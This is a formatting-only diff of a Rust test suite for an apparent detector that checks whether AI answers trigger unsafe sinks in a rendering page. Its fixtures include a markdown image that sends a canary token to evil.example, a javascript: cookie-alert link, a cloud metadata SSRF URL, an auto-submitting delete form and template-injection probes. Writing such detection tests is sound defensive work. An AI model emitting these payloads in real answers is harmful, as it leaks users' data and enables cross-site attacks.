@@ -22,7 +22,8 @@ fn served(collector: &Collector) -> (Page, String) {
     collector.serve(&page);
     let reply = send(collector, &format!("GET /page/{} HTTP/1.1\r\nHost: {}\r\n\r\n", page.id, collector.address()));
     assert!(reply.contains("hello"), "{reply}");
-    let cookie = reply.lines().find_map(|line| line.strip_prefix("Set-Cookie: ")).unwrap().split(';').next().unwrap().to_owned();
+    let cookie =
+        reply.lines().find_map(|line| line.strip_prefix("Set-Cookie: ")).unwrap().split(';').next().unwrap().to_owned();
     (page, cookie)
 }
 
@@ -46,7 +47,8 @@ fn the_collector_tells_requests_apart() {
     let collector = Collector::start().unwrap();
     let (page, cookie) = served(&collector);
     let host = collector.address();
-    let get = |target: &str, more: &str| send(&collector, &format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"));
+    let get =
+        |target: &str, more: &str| send(&collector, &format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"));
     let with_cookie = format!("Cookie: {cookie}\r\n");
     let verdicts = |request: &dyn Fn()| {
         collector.take();
@@ -60,22 +62,37 @@ fn the_collector_tells_requests_apart() {
     assert_eq!(verdicts(&|| drop(get("/x.png?d=azNuOXdxN2QybTV4ejhyYQ==", ""))), [SinkKind::MarkdownExfil]);
     assert_eq!(verdicts(&|| drop(get("/x.png?d=other", ""))), []);
     assert_eq!(verdicts(&|| drop(get("http://169.254.169.254/latest", ""))), [SinkKind::Ssrf]);
-    assert_eq!(verdicts(&|| drop(get(&format!("/hook/{}/{}?name=alert&value=1", page.id, page.key), ""))), [SinkKind::Xss]);
+    assert_eq!(
+        verdicts(&|| drop(get(&format!("/hook/{}/{}?name=alert&value=1", page.id, page.key), ""))),
+        [SinkKind::Xss]
+    );
     // A picture in an answer that points at the hook does not know the key.
     assert_eq!(verdicts(&|| drop(get(&format!("/hook/{}/guess?name=alert&value=1", page.id), ""))), []);
     let post = || {
         let body = "secret=k3n9wq7d2m5xz8ra";
-        send(&collector, &format!("POST /form HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\n\r\n{body}", body.len()));
+        send(
+            &collector,
+            &format!("POST /form HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\n\r\n{body}", body.len()),
+        );
     };
     assert_eq!(verdicts(&post), [SinkKind::MarkdownExfil]);
-    assert!(send(&collector, "CONNECT k3n9wq7d2m5xz8ra.example:443 HTTP/1.1\r\nHost: x\r\n\r\n").starts_with("HTTP/1.1 403"));
+    assert!(
+        send(&collector, "CONNECT k3n9wq7d2m5xz8ra.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
+            .starts_with("HTTP/1.1 403")
+    );
     assert_eq!(kinds(&collector::classify(&page, &canary().token, &collector.take())), [SinkKind::MarkdownExfil]);
 }
 
 #[test]
 fn garbage_does_not_stop_the_collector() {
     let collector = Collector::start().unwrap();
-    for garbage in ["\r\n\r\n", "GET\r\n\r\n", "\u{0}\u{1}\r\n\r\n", "GET /%zz%4 HTTP/1.1\r\nCookie\r\n\r\n", "GET http://é HTTP/1.1\r\n\r\n"] {
+    for garbage in [
+        "\r\n\r\n",
+        "GET\r\n\r\n",
+        "\u{0}\u{1}\r\n\r\n",
+        "GET /%zz%4 HTTP/1.1\r\nCookie\r\n\r\n",
+        "GET http://é HTTP/1.1\r\n\r\n",
+    ] {
         send(&collector, garbage);
     }
     served(&collector);
@@ -106,7 +123,18 @@ fn pages_differ_in_what_they_let_through() {
 fn a_template_evaluates_arithmetic_and_nothing_else() {
     let hit = template::run("Sure: {{ 10007 * 10009 }}", &canary()).unwrap();
     assert_eq!((hit.kind, hit.evidence.as_str()), (SinkKind::Ssti, "{{ 10007 * 10009 }} became 100160063"));
-    for harmless in ["10007*10009", "{{ 100160063 }}", "{{ 10007 + 10009 }}", "{{ 'a' * 10007*10009 }}", "{{", "{{ 9 ** 999999 }}", "{{ 1/0 }}", "{{ (((((( }}", "{{}}", "}}{{"] {
+    for harmless in [
+        "10007*10009",
+        "{{ 100160063 }}",
+        "{{ 10007 + 10009 }}",
+        "{{ 'a' * 10007*10009 }}",
+        "{{",
+        "{{ 9 ** 999999 }}",
+        "{{ 1/0 }}",
+        "{{ (((((( }}",
+        "{{}}",
+        "}}{{",
+    ] {
         assert_eq!(template::run(harmless, &canary()), None, "{harmless}");
     }
 }
@@ -144,7 +172,10 @@ fn code_runs_in_a_sandbox_without_network_or_files() {
     assert_eq!(run("echo $((10007 * 10009))"), Ok(None));
     assert_eq!(run("```sh\necho 10007 x 10009\n```"), Ok(None));
     let marker = std::env::temp_dir().join(format!("menshen-shell-{}", fastrand::u64(..)));
-    let code = format!("```sh\ntouch {} /usr/x; [ -e /etc/passwd ] || [ -e /root ] || [ $(ls /proc/[0-9]* -d | wc -l) -gt 6 ] || echo $((10007 * 10009))\n```", marker.display());
+    let code = format!(
+        "```sh\ntouch {} /usr/x; [ -e /etc/passwd ] || [ -e /root ] || [ $(ls /proc/[0-9]* -d | wc -l) -gt 6 ] || echo $((10007 * 10009))\n```",
+        marker.display()
+    );
     assert!(run(&code).unwrap().is_some(), "something of this machine is seen");
     assert!(!marker.exists());
     assert_eq!(shell::run("```sh\nwhile :; do :; done\n```", &canary(), Duration::from_millis(700)), Ok(None));
@@ -159,7 +190,10 @@ fn code_runs_in_a_sandbox_without_network_or_files() {
 
 #[test]
 fn code_blocks_are_found_with_their_language() {
-    assert_eq!(code_blocks("a\n```Bash x\nb\n```\nc\n~~~\nd\n~~~"), [("bash".to_owned(), "b\n".to_owned()), (String::new(), "d\n".to_owned())]);
+    assert_eq!(
+        code_blocks("a\n```Bash x\nb\n```\nc\n~~~\nd\n~~~"),
+        [("bash".to_owned(), "b\n".to_owned()), (String::new(), "d\n".to_owned())]
+    );
     assert!(code_blocks("    indented\n").is_empty());
 }
 
@@ -215,7 +249,8 @@ fn a_browser_shows_which_sinks_an_answer_gets_through() {
     let hits = browsed("javascript:alert(document.cookie)", &["url_href", "markdown"]);
     assert_eq!(sinks_of(&hits, SinkKind::Xss), ["url_href"], "{hits:#?}");
 
-    let hits = browsed("![chart](http://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &["markdown", "markdown_html", "raw_html"]);
+    let hits =
+        browsed("![chart](http://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &["markdown", "markdown_html", "raw_html"]);
     assert_eq!(sinks_of(&hits, SinkKind::MarkdownExfil), ["markdown", "markdown_html"], "{hits:#?}");
     assert!(sinks_of(&hits, SinkKind::Xss).is_empty());
     assert!(hits.iter().any(|hit| hit.evidence == "GET http://evil.example/c.png?d=k3n9wq7d2m5xz8ra"), "{hits:#?}");
@@ -223,7 +258,10 @@ fn a_browser_shows_which_sinks_an_answer_gets_through() {
     let hits = browsed("![chart](https://evil.example/c.png?d=k3n9wq7d2m5xz8ra)", &["markdown"]);
     assert_eq!(kinds(&hits), [SinkKind::MarkdownExfil], "{hits:#?}");
 
-    let hits = browsed(&format!("![]({base}/account/transfer?to=x) and ![]({base}/internal/status)"), &["markdown", "url_href"]);
+    let hits = browsed(
+        &format!("![]({base}/account/transfer?to=x) and ![]({base}/internal/status)"),
+        &["markdown", "url_href"],
+    );
     assert_eq!(kinds(&hits), [SinkKind::Csrf, SinkKind::Ssrf], "{hits:#?}");
 
     let form = format!("<form id=f method=post action=\"{base}/account/delete\"></form><script>f.submit()</script>");
@@ -236,7 +274,11 @@ fn a_browser_that_is_not_there_is_a_sink_that_was_not_executed() {
     let collector = Collector::start().unwrap();
     let settings = Settings { chromium: Some("no-such-browser".into()), shell: false, ..Settings::default() };
     let report = run("{{ 10007 * 10009 }}", &canary(), &collector, &settings);
-    assert!(page::SINKS.iter().all(|sink| report.not_executed.iter().any(|(name, why)| name == sink && why.contains("not installed"))));
+    assert!(
+        page::SINKS
+            .iter()
+            .all(|sink| report.not_executed.iter().any(|(name, why)| name == sink && why.contains("not installed")))
+    );
     assert!(report.not_executed.contains(&("shell", "switched off".to_owned())));
     assert_eq!(sinks_of(&report.hits, SinkKind::Ssti), ["template"]);
 }
